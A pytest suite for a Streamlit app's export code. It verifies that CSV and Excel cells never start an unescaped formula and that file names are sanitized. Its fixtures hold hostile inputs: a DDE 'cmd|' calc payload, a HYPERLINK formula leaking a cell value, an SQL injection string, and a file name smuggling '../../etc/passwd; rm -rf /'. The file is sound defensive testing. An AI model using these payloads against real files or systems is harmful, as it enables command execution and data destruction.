"""Exports through the real download path: no CSV or Excel cell begins a formula unescaped,
and file names are safe, whatever the cells and names contain."""

from __future__ import annotations

import csv
import io
import re
from unittest import mock

import openpyxl
import pandas as pd
import pytest

from analysis.warehouse.export import export_filename, safe_filename, to_csv_bytes, to_excel_bytes

pytestmark = pytest.mark.timeout(60)

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n", "|", "%")
HOSTILE_CELLS = [
    "=1+1",
    '=HYPERLINK("http://example.invalid/?"&A1,"click")',
    "+SUM(A1:A9)",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=cmd|' /C calc'!A0",
    "|cmd",
    "%0A=1",
    "'; DROP TABLE units; --",
    "\u202e=1+1",
    "Ứng Hòa",
    "-1,26",  # a plain number written as text: allowed, it is not a formula
    "+5.03",
]
# Cells that begin with whitespace or a control character before a number: still cells a
# spreadsheet reads as starting with tab / carriage return, which the brief forbids.
CONTROL_NUMBERS = ["\t-1", "\r-1", "\n+2"]
_PLAIN_NUMBER = re.compile(r"^[-+]?\d+([.,]\d+)?([eE][-+]?\d+)?%?$")
_SAFE_NAME = re.compile(r"^[A-Za-z0-9][A-Za-z0-9._-]*$")


def _frame(cells: list[str]) -> pd.DataFrame:
    return pd.DataFrame(
        {
            "=bad_header": cells,
            "unit_id": ["ba_dinh"] * len(cells),
            "value": [94.27] * len(cells),
            "note": list(reversed(cells)),
        }
    )


def _unsafe(cell: object) -> bool:
    if not isinstance(cell, str) or not cell.startswith(FORMULA_START):
        return False
    return not _PLAIN_NUMBER.match(cell)


def _csv_cells(data: bytes) -> list[str]:
    assert data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8-sig")
    sep = ";" if text.splitlines()[0].count(";") else ","
    return [c for row in csv.reader(io.StringIO(text, newline=""), delimiter=sep) for c in row]


def _xlsx_cells(data: bytes) -> list[object]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    out = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"formula cell {cell.coordinate}: {cell.value!r}"
                out.append(cell.value)
    return out


def _downloads(frame: pd.DataFrame, dataset: str, page: str, lang: str) -> list[dict]:
    """Run ui.downloads.download_row in a real script run; return every button's arguments."""
    from streamlit.delta_generator import DeltaGenerator
    from streamlit.testing.v1 import AppTest

    calls: list[dict] = []
    original = DeltaGenerator.download_button

    def record(self, label, data, *args, **kwargs):
        calls.append({"label": label, "data": data, **kwargs})
        return original(self, label, data, *args, **kwargs)

    def script(frame, dataset, page, lang):
        from types import SimpleNamespace

        import altair as alt
        import streamlit as st

        from ui.downloads import download_row

        st.session_state["lang"] = lang
        chart = alt.Chart(frame.iloc[:, 1:]).mark_point().encode(x="value:Q")
        download_row(
            frame,
            SimpleNamespace(dataset=dataset),
            page,
            years=(2019, 2024),
            chart=chart,
            key="rel",
        )

    with mock.patch.object(DeltaGenerator, "download_button", record):
        at = AppTest.from_function(script, args=(frame, dataset, page, lang), default_timeout=60)
        at.run()
    assert not at.exception, [e.message[:300] for e in at.exception]
    return calls


@pytest.mark.parametrize("lang", ["vi", "en"])
def test_download_row_files_have_no_formula_cells_and_safe_names(lang):
    frame = _frame(HOSTILE_CELLS)
    calls = _downloads(frame, "demo", "../../etc/passwd; rm -rf /\u202e", lang)
    by_ext = {c["file_name"].rsplit(".", 1)[-1]: c for c in calls}
    assert set(by_ext) >= {"csv", "xlsx", "png"}
    for call in calls:
        name = call["file_name"]
        assert _SAFE_NAME.match(name) and ".." not in name, name
        assert "SIMULATED" in name
    csv_cells = _csv_cells(by_ext["csv"]["data"]())
    assert not [c for c in csv_cells if _unsafe(c)], [c for c in csv_cells if _unsafe(c)]
    assert any(c.startswith("'=") for c in csv_cells)  # escaped, not dropped
    assert "Ứng Hòa" in csv_cells
    xlsx_cells = _xlsx_cells(by_ext["xlsx"]["data"]())
    assert not [c for c in xlsx_cells if _unsafe(c)], [c for c in xlsx_cells if _unsafe(c)]
    assert "Ứng Hòa" in xlsx_cells


@pytest.mark.parametrize("writer", ["csv", "xlsx"])
def test_export_functions_escape_every_hostile_cell(writer):
    frame = _frame(HOSTILE_CELLS)
    if writer == "csv":
        cells = _csv_cells(to_csv_bytes(frame, decimal=",")) + _csv_cells(to_csv_bytes(frame))
    else:
        cells = _xlsx_cells(to_excel_bytes({"=sheet[1]": frame}))
    assert not [c for c in cells if _unsafe(c)]


def test_cells_starting_with_a_control_character_are_escaped_too():
    # Regression: safe_cell once matched the number pattern on value.strip(), so "\t-1" was
    # written as is.
    cells = _csv_cells(to_csv_bytes(_frame(CONTROL_NUMBERS)))
    assert not [c for c in cells if isinstance(c, str) and c.startswith(("\t", "\r", "\n"))]


@pytest.mark.parametrize(
    "text",
    [
        "../../etc/passwd",
        "..",
        ".hidden",
        "a\x00b",
        "CON",
        "\u202ecod.exe",
        "'; DROP TABLE units; --",
        "x" * 5000,
        "",
        "Ứng Hòa / Đống Đa",
    ],
)
def test_file_names_are_safe_for_any_input(text):
    for name in (
        safe_filename(text),
        export_filename(text, text, [2019, 2024], "csv"),
        export_filename("demo", text, None, text or "csv"),
    ):
        assert _SAFE_NAME.match(name), repr(name)
        assert ".." not in name and "/" not in name and "\\" not in name
        assert len(name) <= 250


def test_the_download_table_is_not_changed_by_escaping():
    frame = _frame(HOSTILE_CELLS)
    copy = frame.copy()
    to_csv_bytes(frame)
    to_excel_bytes(frame)
    pd.testing.assert_frame_equal(frame, copy)
    # The escaped value still says what the cell said.
    from analysis.warehouse.export import safe_cell

    assert safe_cell("=1+1") == "'=1+1"
